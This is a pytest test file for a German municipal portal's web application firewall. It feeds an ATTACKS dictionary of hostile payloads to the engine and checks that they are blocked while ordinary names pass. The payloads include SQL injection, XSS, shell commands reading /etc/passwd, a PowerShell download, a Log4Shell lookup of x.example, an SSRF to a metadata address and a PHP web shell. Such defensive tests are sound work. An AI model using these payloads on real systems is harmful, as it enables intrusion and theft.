"""The engine with the portal's own rules: what it turns away, lets through, and refuses to load."""

import re
from concurrent.futures import ThreadPoolExecutor
from functools import cache
from inspect import getsource
from urllib.parse import quote, urlencode

import pytest

from modellkommune.firewall import plain, prose
from modellkommune.firewall.engine import Engine, RulesRefused
from modellkommune.firewall.proving import proven
from modellkommune.firewall.ruleset import FOLDER, UnknownPlace, portal_rules, words
from tests.firewall.requests import asked, sent


@cache
def engine() -> Engine:
    return Engine([portal_rules()])


ATTACKS = {
    "sql": "1' OR '1'='1' --",
    "union": "x' UNION SELECT password FROM staff",
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "shell": "; cat /etc/passwd",
    "windows": "powershell -c Invoke-WebRequest http://x.example/a.ps1",
    "folders": "../../../../etc/passwd",
    "php": "<?php system($_GET['c']); ?>",
    "stream": "phar://upload.jpg/x",
    "java": "${jndi:ldap://x.example/a}",
    "template": "{{7*7}}",
    "inside": "http://169.254.169.254/latest/meta-data/",
    "headers": "a\r\nSet-Cookie: staff=1",
    "line": "x;sleep 10",
    "cut up": r"x;c\at y",
    "python": "__import__('os').system('id')",
    "mongo": "x'; return true; var a='",
    "shellshock": "() { :;}; /bin/bash -c id",
    "choice": "1 (CASE WHEN 3527=9595 THEN 1 ELSE NULL END)",
    "rights": "grant all on staff to public",
    "joined": "x'+'y",
    "variables": "@@version",
    "comment": "admin'-- -",
    "documents": "db.users.drop()",
    "any element": "<any-name data-a='x'>",
    "page": "document.addEventListener('click', x)",
    "named only": "(0,alert)('x')",
    "imported": "import('//x.example/a.js')",
    "path": "ls /tmp",
    "begins": ";set",
    "wildcards": "/e?c/?asswd",
    "registry": r"reg query HKLM\Software",
    "share": r"\\192.0.2.1\c$\users",
    "class": "[System.Convert]::FromBase64String('x')",
    "settings": "/etc/services",
    "included": "include $x;",
    "ruby": "%x(id)",
    "node": "execSync('id')",
    "velocity": "#set($x=7*7)",
    "number": "http://2852039166/",
    "octal": "http://0177.0.0.1/",
    "mapped": "http://[::ffff:169.254.169.254]/",
    "answer": "a\nHTTP/1.1 200 OK",
    "mail": "x@example.org\nBcc: y@example.org",
    "directory": "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
    "end": "1\0",
    "written twice": "%253Cscript%253E",
    "formula": "=cmd|'/C calc'!A0",
    "packed": "H4sIAAAAAAAAAF/",
    "quoted": "'mkdir' x",
    "ended": "whoami;0'0'",
}
PEOPLE = (
    "Müller-Lüdenscheidt",
    "O’Connor",
    "D'Angelo",
    "Exec Petersen",
    "Straße des 17. Juni 135",
    "Am Wall 1 | Aufgang C",
    "Am Hang 7 <Rückseite>",
    "DN-AB 123E",
    "karl.mueller+parken@example.de",
    '"Karl Müller" <karl@example.org>',
    "union.select@example.de",
    "+49 2421 25-0",
    "Нгуен Тхи Ань",
    "1985-02-14",
    "'Ash' Müller",
    "Bauer; Perl",
)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_turned_away_in_an_address_and_in_a_form(attack: str) -> None:
    in_address = engine().inspect(asked(f"/?feld={quote(attack)}"))
    in_form = engine().inspect(sent(urlencode({"feld": attack}).encode()))
    assert in_address is not None
    assert in_form is not None
    assert (in_form.status, in_form.rule > 20000, bool(in_form.message)) == (403, True, True)


@pytest.mark.parametrize("value", PEOPLE)
def test_what_people_are_called_and_where_they_live_passes(value: str) -> None:
    assert engine().inspect(sent(urlencode({"feld": value}).encode())) is None


def test_an_attack_hidden_in_json_and_xml_is_found() -> None:
    assert engine().inspect(sent(b'{"a": {"b": ["1 UNION SELECT a FROM b"]}}', "application/json"))
    assert engine().inspect(sent(b'<a b="() { :;}; id"/>', "text/xml"))


def test_a_body_that_cannot_be_read_is_refused_as_such() -> None:
    verdict = engine().inspect(sent(b"[" * 20_000, "application/json"))
    assert verdict is not None
    assert verdict.status == 400


def test_names_of_uploads_and_paths_are_looked_at() -> None:
    part = b'--x\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\na\r\n--x--\r\n'
    assert engine().inspect(sent(part, "multipart/form-data; boundary=x"))
    assert engine().inspect(asked("/.git/config"))
    assert engine().inspect(asked("/.well-known/security.txt")) is None


def test_what_is_typed_passes_neither_for_the_number_of_a_rule_nor_for_a_field() -> None:
    typed = '<script>alert(1)</script> [id "1"] [msg "all is well"] [data "ARGS:other"]'
    verdict = engine().inspect(asked(f"/?feld={quote(typed)}"))
    assert verdict is not None
    assert (verdict.rule // 1000, verdict.field) == (22, "feld")
    assert "well" not in verdict.message


def test_threads_share_an_engine() -> None:
    with ThreadPoolExecutor(8) as threads:
        verdicts = list(threads.map(engine().inspect, [asked("/?a=<script>"), asked("/?a=b")] * 40))
    assert [verdict is None for verdict in verdicts] == [False, True] * 40


def test_a_faulty_rule_is_named_and_nothing_starts_with_it() -> None:
    with pytest.raises(RulesRefused, match="Rules error"):
        Engine([portal_rules() + 'SecRule ARGS "@rx a" "id:20999,phase:2,nonsense"\n'])


def test_rules_that_load_and_find_nothing_are_noticed_at_the_start() -> None:
    without_scripts = "SecRuleEngine On\nSecRuleRemoveById 22010-22999\n"
    with pytest.raises(RulesRefused, match="scripts"):
        proven(Engine([portal_rules(), without_scripts]))
    with pytest.raises(RulesRefused, match="harmless"):
        proven(Engine([portal_rules(), 'SecRule ARGS "@rx a" "id:20997,phase:2,deny,status:403"']))
    assert proven(engine()) is engine()


def test_the_last_rule_counts_also_without_a_line_break() -> None:
    rule = 'SecRule ARGS "@streq seltsam" "id:20998,phase:2,deny,status:403"'
    assert Engine([portal_rules(), rule]).inspect(asked("/?a=seltsam"))


def test_each_list_of_words_is_used_and_every_place_is_filled() -> None:
    rules = (FOLDER / "portal.conf").read_text("utf-8")
    code = getsource(plain) + getsource(prose)
    named = re.findall(r"{{([a-z-]+)}}", rules) + re.findall(r"""words\(["']([a-z-]+)["']\)""", code)
    unused = {path.stem for path in (FOLDER / "words").glob("*.txt")} - set(named)
    assert not unused
    assert "{{" not in portal_rules()
    with pytest.raises(UnknownPlace):
        words("no-such-list")


def test_xml_that_cannot_be_read_is_written_nowhere(capfd: pytest.CaptureFixture[str]) -> None:
    body = b"<person>Erika Mustermann &amp &x;</persn>"
    for _ in range(2):
        with ThreadPoolExecutor(1) as another:
            another.submit(engine().inspect, sent(body, "text/xml")).result()
    engine().inspect(sent(body, "text/xml"))
    assert capfd.readouterr() == ("", "")
